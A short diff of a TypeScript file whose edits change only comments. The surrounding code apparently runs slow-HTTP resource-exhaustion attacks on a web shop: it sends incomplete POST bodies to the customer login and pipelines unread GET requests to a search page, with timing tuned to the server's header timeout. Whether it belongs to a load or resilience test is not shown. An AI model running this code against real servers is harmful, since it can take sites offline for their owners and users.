@@ -4,7 +4,7 @@ import { type Attempt, ask, counted } from './attempt';
 import { openSocket } from './raw-socket';
 import type { Target } from './target';
 
-/** A head may take 15 seconds; the shop looks every five. */
+/** Headers may take 15 seconds; the server checks every five. */
 const HEAD_SECONDS = 22;
 const second = () => new Promise((resume) => setTimeout(resume, 1_000));
 
@@ -24,7 +24,7 @@ function linger(origin: string, count: number): Lingering[] {
       socket.write(`POST /customer/login HTTP/1.1\r\nHost: ${host}\r\n${type}\r\nContent-Length: 1000\r\n\r\nemail=`);
     } else {
       socket.pause();
-      // Twenty questions in a row, and not one answer read.
+      // Twenty requests in a row, without reading a reply.
       socket.write(`GET /kontorartikler?q=${at} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(20));
     }
     return { socket, kind };
